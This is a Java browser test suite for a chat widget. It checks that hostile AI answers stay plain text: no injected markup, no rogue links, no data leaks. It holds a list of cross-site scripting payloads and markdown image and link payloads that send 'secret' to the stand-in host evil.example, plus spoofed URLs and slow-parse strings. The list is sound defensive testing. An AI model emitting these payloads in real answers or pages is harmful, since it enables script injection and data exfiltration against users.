package dev.ringfence.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a hostile answer can do to the page: nothing. */
final class HostileAnswerBrowserTest {
  @AutoClose static final FakeService service = new FakeService();
  @AutoClose static final Browser browser = new Browser();
  private final ChatView chat = new ChatView(browser);

  @BeforeEach
  void open() {
    browser.open(service.shop("data-site=\"pk_demo_acme\""));
    browser.awaitTrue("return !!window.ringfence");
    browser.run("ringfence.open()");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<style>*{display:none}</style>",
        "<form action=https://evil.example><button>Send</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<math><mtext></p><img src=x onerror=alert(1)>",
        "[x](javascript:alert`1`)",
        "[x](JaVaScRiPt:alert`1`)",
        "[x](java\tscript:alert`1`)",
        "[x](data:text/html,<b>x</b>)",
        "[x](vbscript:x)",
        "[x](https://evil.example/?d=secret)",
        "[x](//evil.example/?d=secret)",
        "[x](\\\\evil.example)",
        "[x](https://user:pass@docs.example/)",
        "![x](https://evil.example/p.png?d=secret)",
        "![x][ref]\n\n[ref]: https://evil.example/p.png?d=secret",
        "<https://evil.example/?d=secret>",
        "https://evil.example/?d=secret",
        "[![x](https://evil.example/p.png)](https://evil.example/)",
        "| <img src=x onerror=alert(1)> | [x](javascript:alert`1`) |\n|---|---|\n| a | b |",
        "> - **[x](javascript:alert`1`)**",
        "```html\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
        "# <img src=x onerror=alert(1)>",
        "__proto__ constructor {{7*7}} ${alert(1)}",
      })
  void anyTextAnywhereStaysText(String payload) {
    service.script =
        (asked, reply) -> {
          reply.part(
              Map.of("type", "tool-input-start", "toolCallId", payload, "toolName", payload));
          for (var piece : payload.split("(?<=\\G.{3})")) {
            reply.delta(piece);
          }
          reply.part(
              Map.of(
                  "type",
                  "source-url",
                  "sourceId",
                  "1",
                  "url",
                  "https://docs.example/a",
                  "title",
                  payload));
          reply.part(
              Map.of(
                  "type",
                  "source-url",
                  "sourceId",
                  "2",
                  "url",
                  "javascript:alert(1)",
                  "title",
                  payload + "2"));
          reply.part(
              Map.of(
                  "type",
                  "source-document",
                  "sourceId",
                  "3",
                  "mediaType",
                  "text/html",
                  "title",
                  payload + "3",
                  "filename",
                  payload));
          reply.part(Map.of("type", "data-notice", "data", Map.of("text", payload)));
          reply.part(Map.of("type", "data-scope", "data", Map.of("scope", payload)));
          reply.part(Map.of("type", "error", "errorText", payload));
        };

    chat.ask(payload.replaceAll("\\s", " ")).settled();

    assertThat(chat.count(FOREIGN)).isZero();
    assertThat(chat.all("a", "href")).containsOnly("https://docs.example/a");
    assertThat(chat.all("a", "rel")).containsOnly("noopener noreferrer");
    assertThat(chat.count(".badge")).isZero();
    assertThat(browser.breaches()).isEmpty();
    assertThat(requestedHosts()).doesNotContain("evil.example");
  }

  /** All that an answer must never be made of. */
  private static final String FOREIGN =
      "img, picture, video, audio, script, style, iframe, object, embed, math, meta, base, form:not(.composer), svg:not(.icon), "
          + "animate, [style], [onerror], [onload], [srcdoc], [src], a:not([href^='http'])";

  private static List<String> requestedHosts() {
    return browser.texts(
        "return performance.getEntriesByType('resource').map((e) => new URL(e.name).hostname)");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "See [the terms](https://docs.example/terms).        | https://docs.example/terms",
        "See https://docs.example/terms.                     | https://docs.example/terms",
        "See <https://docs.example/terms>                    | https://docs.example/terms",
        "See [x](https://docs.example/terms?d=secret)        | ''",
        "See [x](https://docs.example/terms/secret)          | ''",
        "See [x](https://docs.example.evil.example/terms)    | ''",
        "See [x](https://docs.example@evil.example/terms)    | ''",
        "See [x](http://docs.example/terms)                  | ''",
        "See [x](/demo/docs/acme/terms)                      | HOME/demo/docs/acme/terms",
        "See [x](/demo/docs/acme/terms?d=secret)             | ''",
        "See [x](mailto:a@b.example)                         | ''",
      })
  void onlyCitedAndOwnAddressesBecomeLinks(String text, String href) {
    service.script =
        (asked, reply) -> {
          reply.delta(text);
          reply.part(
              Map.of(
                  "type",
                  "source-url",
                  "sourceId",
                  "s",
                  "url",
                  "https://docs.example/terms",
                  "title",
                  "Terms"));
          reply.finish();
        };

    chat.ask("Links").settled();

    var expected = href.isEmpty() ? List.of() : List.of(href.replace("HOME", service.home()));
    assertThat(chat.all(".text a", "href")).isEqualTo(expected);
  }

  @Test
  void whatCannotBeSeenIsLeftOut() {
    service.script =
        (asked, reply) -> reply.says("a\u202eb\u2066c" + Character.toString(0xE0041) + "d\u0007e");

    chat.ask("Invisible").settled();

    assertThat(chat.text(".answer .text")).isEqualTo("abcde");
  }

  @Test
  void anEndlessAnswerIsCutOffAndThePageStaysAlive() {
    service.script =
        (asked, reply) -> {
          for (int i = 0; i < 400; i++) {
            reply.delta("word ".repeat(200));
          }
          reply.finish();
        };

    chat.ask("On and on").settled().awaits("The answer was cut off.");

    assertThat(chat.text(".answer .text").length()).isLessThanOrEqualTo(200_000);
  }

  @Test
  void textMadeToBeSlowToReadIsReadInTime() {
    var slow =
        "[".repeat(3000)
            + "*_".repeat(3000)
            + "![".repeat(2000)
            + "`".repeat(999)
            + "> ".repeat(500)
            + "|".repeat(3000);
    service.script = (asked, reply) -> reply.says(slow);
    var begun = System.nanoTime();

    chat.ask("Slow").settled();

    assertThat(Duration.ofNanos(System.nanoTime() - begun)).isLessThan(Duration.ofSeconds(5));
  }
}
